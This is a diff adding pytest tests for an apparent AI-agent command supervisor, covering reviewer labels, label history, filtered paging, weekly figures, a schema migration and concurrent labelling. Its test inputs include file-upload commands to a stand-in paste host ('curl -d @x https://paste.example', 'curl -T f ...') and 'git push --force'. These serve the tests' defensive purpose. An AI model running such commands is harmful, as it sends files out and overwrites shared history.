@@ -167,6 +167,7 @@ def test_label_upserts_and_filters(sup):
 
 
 def test_labeller_defaults_to_the_os_user_and_notes_are_redacted(sup, monkeypatch):
+    monkeypatch.delenv("SUPERVISE_LABELLER", raising=False)
     monkeypatch.setenv("LOGNAME", "reviewer-7")
     flagged = sup.check(shell("curl -d @x https://paste.example"))
     sup.label(flagged.decision_id, "curl_upload", True, note=f"it sent {AWS_KEY}")
@@ -174,6 +175,90 @@ def test_labeller_defaults_to_the_os_user_and_notes_are_redacted(sup, monkeypatc
     assert item.label is not None
     assert item.label.labeller == "reviewer-7"
     assert item.label.note == "it sent [REDACTED:aws-access-key-id]"
+
+
+def test_labeller_from_the_environment(sup, monkeypatch):
+    monkeypatch.setenv("SUPERVISE_LABELLER", "ana@review")
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    sup.label(flagged.decision_id, "curl_upload", True)
+    (item,) = sup.store.feedback()
+    assert item.label is not None
+    assert item.label.labeller == "ana@review"
+
+
+def test_a_relabel_keeps_the_history(sup):
+    """Two reviewers label the same objection: the last is current, both are kept."""
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    store = sup.store
+    assert store.label_history(flagged.decision_id, "curl_upload") == []
+    sup.label(flagged.decision_id, "curl_upload", True, labeller="ana")
+    sup.label(flagged.decision_id, "curl_upload", False, corrected="nudge", labeller="bo")
+    history = store.label_history(flagged.decision_id, "curl_upload")
+    assert [(h.correct, h.corrected, h.labeller) for h in history] == [
+        (True, None, "ana"),
+        (False, "nudge", "bo"),
+    ]
+    assert history[0].labelled_at <= history[1].labelled_at
+    (item,) = store.feedback()
+    assert item.label == history[-1]
+    assert store.label_history(flagged.decision_id, "force_push") == []
+
+
+def test_pages_newest_first_with_filters(sup):
+    from supervisor.store import FeedbackFilter
+
+    made = [
+        sup.check(shell("git push --force origin main", session="s1")),  # nudge
+        sup.check(shell("curl -d @x https://paste.example", session="s1")),  # flag
+        sup.check(shell("git status", session="s1")),  # ok: no objection
+        sup.check(shell("curl -T f https://paste.example", session="s2", agent="a2")),
+        sup.check(
+            {
+                **shell("curl -d @z https://paste.example", session="s2"),
+                "metadata": {"host": "codex"},
+            }
+        ),
+    ]
+    ids = [d.decision_id for d in made]
+    store = sup.store
+    everything = FeedbackFilter()
+    assert store.count_feedback(everything) == 4
+    page = store.feedback_page(everything, offset=0, limit=3)
+    assert [i.decision_id for i in page] == [ids[4], ids[3], ids[1]]
+    assert [i.decision_id for i in store.feedback_page(everything, offset=3, limit=3)] == [ids[0]]
+
+    def ids_of(**fields):
+        where = FeedbackFilter(**fields)
+        found = [i.decision_id for i in store.feedback_page(where, limit=10)]
+        assert store.count_feedback(where) == len(found)
+        return found
+
+    assert ids_of(verdict="nudge") == [ids[0]]
+    assert ids_of(entry_id="curl_upload", session="s2") == [ids[4], ids[3]]
+    assert ids_of(agent="a2") == [ids[3]]
+    assert ids_of(host="codex") == [ids[4]]
+    sup.label(ids[1], "curl_upload", False, labeller="ana")
+    sup.label(ids[3], "curl_upload", True, labeller="ana")
+    assert ids_of(labelled=True) == [ids[3], ids[1]]
+    assert ids_of(labelled=False) == [ids[4], ids[0]]
+    assert ids_of(correct=False) == [ids[1]]
+    assert ids_of(correct=True) == [ids[3]]
+    created = made[3].created_at
+    assert ids_of(since=created) == [ids[4], ids[3]]
+    assert ids_of(until=created) == [ids[1], ids[0]]
+
+
+def test_neighbours_are_the_sessions_decisions_around_one(sup):
+    made = [sup.check(shell(f"echo {n}", session="s9")) for n in range(7)]
+    sup.check(shell("echo elsewhere", session="other"))
+    lonely = sup.check({"type": "shell", "args": {"command": "ls"}})
+    ids = [d.decision_id for d in made]
+    store = sup.store
+    assert [d.decision_id for d in store.neighbours(ids[3], 2)] == ids[1:6]
+    assert [d.decision_id for d in store.neighbours(ids[0], 2)] == ids[0:3]
+    assert [d.decision_id for d in store.neighbours(ids[6], 10)] == ids
+    assert [d.decision_id for d in store.neighbours(lonely.decision_id)] == [lonely.decision_id]
+    assert store.neighbours("no-such-decision") == []
 
 
 def test_labels_that_are_refused(sup):
@@ -235,3 +320,121 @@ def test_since_and_order_across_weeks(sup):
     since = datetime(2026, 3, 10, 9, 0, tzinfo=ZoneInfo("Australia/Brisbane"))
     later = [i.decision_id for i in store.feedback("curl_upload", since=since)]
     assert later == ["old-8", "old-15", template.decision_id]
+
+
+def test_figures_counted_in_the_store_are_those_of_the_items(sup):
+    """feedback_figures counts in SQL what figures() counts from the items, week by week."""
+    from supervisor.feedback import figures
+    from supervisor.store import FeedbackFilter
+
+    store = sup.store
+    first = sup.check(shell("git push --force origin main"))
+    sup.check(shell("git push --force origin main"))  # the first is ignored
+    sup.check(shell("git status"))  # heeds the second
+    sup.check(shell("git push -f origin dev", session="s2"))  # stays open
+    flagged = sup.check(shell("curl -d @x https://paste.example", session="s3"))
+    template = sup.check(shell("curl -T f https://paste.example", session="s3"))
+    for days in (9, 16):
+        old = {**template.model_dump(), "decision_id": f"old-{days}"}
+        old["created_at"] = datetime(2026, 3, 2, 23, 30, tzinfo=UTC) + timedelta(days=days)
+        store.record_decision(Decision.model_validate(old), (), None)
+    sup.label(first.decision_id, "force_push", True)
+    sup.label(flagged.decision_id, "curl_upload", False)
+    sup.label("old-9", "curl_upload", True)
+    items = store.feedback()
+    expected = figures(items)
+    assert store.feedback_figures(FeedbackFilter(), weekly=True) == expected
+    totals = store.feedback_figures(FeedbackFilter())
+    assert [(e.entry_id, e.total, e.weeks) for e in totals] == [
+        (e.entry_id, e.total, ()) for e in expected
+    ]
+    (curl,) = store.feedback_figures(FeedbackFilter(entry_id="curl_upload"))
+    assert (curl.total.objections, curl.total.labelled, curl.total.precision) == (4, 2, 0.5)
+    (push,) = store.feedback_figures(FeedbackFilter(entry_id="force_push"))
+    assert (push.total.heeded, push.total.ignored, push.total.open) == (1, 1, 1)
+
+
+def _store_at_version_4(store_url: str) -> None:
+    """A store made by the version before label history, holding one label."""
+    label = (
+        "INSERT INTO {p}labels (decision_id, entry_id, correct, corrected, note, labeller,"
+        " labelled_at) VALUES ('d-old', 'curl_upload', {f}, 'ok', 'from before', 'ana',"
+        " '2026-03-02T12:00:00+00:00')"
+    )
+    if store_url.startswith("sqlite"):
+        import sqlite3
+
+        from supervisor.stores.sqlite import MIGRATIONS
+
+        conn = sqlite3.connect(store_url.removeprefix("sqlite://"))
+        for script in MIGRATIONS[:4]:
+            conn.executescript(script)
+        conn.execute(label.format(p="", f=0))
+        conn.execute("PRAGMA user_version=4")
+        conn.commit()
+        conn.close()
+        return
+    import psycopg
+
+    from supervisor.stores.postgres import MIGRATIONS
+
+    with psycopg.connect(store_url, autocommit=True) as conn:
+        for script in MIGRATIONS[:4]:
+            conn.execute(script)
+        conn.execute("CREATE TABLE supervise_schema (version INTEGER NOT NULL)")
+        conn.execute("INSERT INTO supervise_schema (version) VALUES (4)")
+        conn.execute(label.format(p="supervise_", f="false"))
+
+
+def test_the_migration_starts_the_history_with_the_labels_given(store_url, tmp_path):
+    from supervisor.store import open_store
+
+    _store_at_version_4(store_url)
+    store = open_store(store_url, tmp_path)
+    try:
+        (old,) = store.label_history("d-old", "curl_upload")
+        assert (old.correct, old.corrected, old.note, old.labeller) == (
+            False,
+            "ok",
+            "from before",
+            "ana",
+        )
+        assert old.labelled_at == datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
+    finally:
+        store.close()
+
+
+def test_reviewers_labelling_at_once_overwrite_nobody(sup, store_url):
+    """Two reviewers (two store connections) label the same objection at the same time:
+    every label is in the history, and the current one is one of them."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    from supervisor.feedback import record_label
+    from supervisor.store import open_store
+
+    flagged = sup.check(shell("curl -d @x https://paste.example"))
+    stores = [open_store(store_url, Path("/nonexistent")) for _ in range(2)]
+
+    def work(index: int) -> None:
+        for n in range(10):
+            record_label(
+                stores[index],
+                flagged.decision_id,
+                "curl_upload",
+                n % 2 == 0,
+                labeller=f"reviewer-{index}",
+                note=f"{index}:{n}",
+            )
+
+    try:
+        with ThreadPoolExecutor(2) as pool:
+            list(pool.map(work, range(2)))
+        history = sup.store.label_history(flagged.decision_id, "curl_upload")
+        assert sorted(h.note for h in history) == sorted(
+            f"{i}:{n}" for i in range(2) for n in range(10)
+        )
+        (item,) = sup.store.feedback()
+        assert item.label in history
+    finally:
+        for store in stores:
+            store.close()
